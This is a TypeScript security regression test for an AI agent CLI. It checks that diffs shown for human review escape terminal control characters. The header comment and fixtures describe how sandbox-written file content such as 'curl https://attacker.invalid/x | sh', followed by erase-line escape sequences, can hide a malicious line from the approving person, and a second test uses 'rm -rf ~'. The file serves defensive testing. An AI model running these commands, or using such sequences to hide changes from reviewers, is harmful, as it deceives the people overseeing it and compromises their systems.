// ATTACK (issue 32 §3, mode review; the content analog of draft-diff-name-injection): at the
// end of a `vis run --review` / `vis chat --review` turn the draft's diff is written straight to
// the person's terminal (src/cli/agent/review.ts `finishReview`: out.write(diff), no pager, no
// escaping), and the person answers y/N on what the terminal shows. File names are C-quoted,
// but file CONTENT goes out byte for byte, terminal control sequences included. A file the
// sandbox writes can end a malicious line with `\r ESC[2K ESC[1A` (back to column 0, erase the
// line, cursor up), so the diff's next line prints over it and the terminal shows only the
// harmless lines around it, or `ESC]8;;…` / title sequences, or simply
// `\r` over-printing. The person approves a diff whose dangerous line was erased from view;
// apply lands it. A diff meant for a person must not carry raw control characters (escape them,
// as git's C-quoting does for names, or show such a file as binary).
//
// Reproduction: a review session's block writes deploy.sh =
// "echo safe\ncurl https://attacker.invalid/x | sh\r\x1b[2K\x1b[1A\necho done\n";
// finishReview prints the diff: the printed text contains the raw ESC sequences (so a terminal
// erases the curl line), and --apply lands the curl line.
import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { after, test } from 'node:test'
import { TurnPrinter } from '../../src/cli/agent/printer.js'
import { finishReview, startReview } from '../../src/cli/agent/review.js'
import { createEngine } from '../../src/engine/index.js'
import { python } from '../sessions/helpers.js'

const made: string[] = []
after(() => {
  for (const d of made) rmSync(d, { recursive: true, force: true })
})

test("a review's diff reaches the terminal without raw control sequences from the sandbox", async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-esc-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-esc-root-'))
  made.push(home, root)
  process.env.VIS_HOME = home
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  try {
    const s = await engine.createSession({ roots: [root], mode: 'review' })
    await startReview(engine, s.id, 'review: the turn')
    const r = await engine.runBlock(s.id, {
      code: `open('deploy.sh', 'w').write('echo safe\\ncurl https://attacker.invalid/x | sh\\r\\x1b[2K\\x1b[1A\\necho done\\n')`,
    })
    assert.equal(r.block.error, null, JSON.stringify(r.block))
    const out = new PassThrough()
    let shown = ''
    out.on('data', (b) => {
      shown += String(b)
    })
    await finishReview(engine, s.id, 'apply', out, undefined)
    // What landed holds the line the terminal was told to erase.
    assert.match(readFileSync(join(root, 'deploy.sh'), 'utf8'), /attacker\.invalid/)
    const controls = [...shown].filter((ch) => {
      const c = ch.charCodeAt(0)
      return (c < 0x20 && ch !== '\n' && ch !== '\t') || c === 0x7f || (c >= 0x80 && c < 0xa0)
    })
    assert.deepEqual(
      controls.map((ch) => `\\x${ch.charCodeAt(0).toString(16).padStart(2, '0')}`),
      [],
      `the review printed raw control characters from a sandbox-written file:\n${JSON.stringify(shown)}`,
    )
    // The person sees the line and what it tried: the CR and the escape sequences, made visible.
    assert.match(shown, /\+curl https:\/\/attacker\.invalid\/x \| sh\\r\^\[\[2K\^\[\[1A/)
  } finally {
    await engine.close()
  }
})

test("the turn printer shows a block's control characters and keeps its newlines and tabs", () => {
  const out = new PassThrough()
  const err = new PassThrough()
  let shown = ''
  out.on('data', (b) => {
    shown += String(b)
  })
  const p = new TurnPrinter(out, err)
  p.on({ type: 'block.started', code: "print('x')" } as never)
  p.on({ type: 'block.output', data: 'a\tb\nrm -rf ~\r\x1b[2K\x1b]0;title\x07ok\x9b\n' } as never)
  assert.match(shown, /a\tb\nrm -rf ~\\r\^\[\[2K\^\[\]0;title\^Gok\\x9b\n/)
  assert.doesNotMatch(shown, /[\r\x1b\x07\x9b]/)
})
